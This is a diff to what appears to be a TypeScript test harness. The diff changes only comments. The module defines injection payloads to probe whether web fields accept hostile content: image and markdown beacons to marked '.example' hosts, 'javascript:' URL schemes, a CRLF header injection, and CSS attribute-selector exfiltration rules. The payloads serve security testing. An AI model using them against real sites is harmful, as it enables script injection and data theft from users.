@@ -1,13 +1,13 @@
-/** A text that would act in the client of whoever receives it. The mark tells what was sent where. */
+/** A text that would take effect in the recipient's client. The mark identifies where it was sent. */
 export interface Hostile {
   readonly family: 'picture' | 'script' | 'frame' | 'style' | 'header' | 'bidi' | 'address'
   readonly text: (mark: string) => string
 }
 
-/** A host that nothing may be loaded from; the mark is part of it. */
+/** A host from which nothing may be loaded; it contains the mark. */
 const at = (mark: string, path = 'pixel.gif') => `https://${mark}.example/${path}`
 
-/** For fields that take text. */
+/** For text fields. */
 export const TEXTS: readonly Hostile[] = [
   { family: 'picture', text: (mark) => `${mark}<img src="${at(mark)}" width=1 height=1>` },
   { family: 'picture', text: (mark) => `![${mark}](${at(mark)})` },
@@ -30,7 +30,7 @@ export const TEXTS: readonly Hostile[] = [
 /** All of them in one text, the shortest first, for fields of any length. */
 const together = (mark: string) => [...TEXTS.map(({ text }) => text(mark))].sort((a, b) => a.length - b.length).join(' ')
 
-/** For fields that take addresses alone: none of these may be taken. */
+/** For URL fields: none of these may be accepted. */
 export const SCHEMES: readonly Hostile[] = [
   'javascript:alert(1)//MARK',
   'java\tscript:alert(1)//MARK',
@@ -42,7 +42,7 @@ export const SCHEMES: readonly Hostile[] = [
   'https://MARK.example/\r\nX-Eyes: 1',
 ].map((form) => ({ family: 'address', text: (mark) => form.replace('MARK', mark) }))
 
-/** For style sheets: none of these may be taken either. */
+/** For style sheets: none of these may be accepted. */
 export const SHEETS: readonly Hostile[] = [
   'input[value$="x"]{background:url(https://MARK.example/x)}',
   '@import "https://MARK.example/x.css";',
@@ -52,11 +52,11 @@ export const SHEETS: readonly Hostile[] = [
   ':root{--x:"https://MARK.example/x"}',
 ].map((form) => ({ family: 'style', text: (mark) => form.replace('MARK', mark) }))
 
-/** Where browsers are led, or what they load. */
+/** Fields that browsers navigate to or load from. */
 const IS_ADDRESS =
   /(?:url|link|permalink|website|avatar|photo|image|images\.0|logo|favicon|video|redirect|thumbnail|src|href|bannerImage|bannerVideo|social_links\.\w+)$/i
 
-/** What narrower fields take, so that it is known where their words are shown. */
+/** Valid values for restricted fields, to find where their text is shown. */
 const lawfulFor = (path: string): readonly ((mark: string) => string)[] => {
   if (/custom_css$/.test(path)) return [(mark) => `.${mark}{color:red}`]
   if (/email$/.test(path)) return [(mark) => `${mark}@evil.example`]
@@ -69,7 +69,10 @@ const turned = (list: readonly Hostile[], by: number): readonly Hostile[] => {
   return [...list.slice(first), ...list.slice(0, first)]
 }
 
-/** What is tried in a field, until something is taken: in the first round all hostile texts in one, in each further one another of them first. */
+/**
+ * The values to try in a field until one is accepted: in the first round all hostile texts in one, later rounds start with another one
+ * each.
+ */
 export const valuesFor = (path: string, round: number): readonly ((mark: string) => string)[] => {
   const lawful = lawfulFor(path)
   if (/custom_css$/.test(path)) return [...turned(SHEETS, round).map(({ text }) => text), ...lawful]
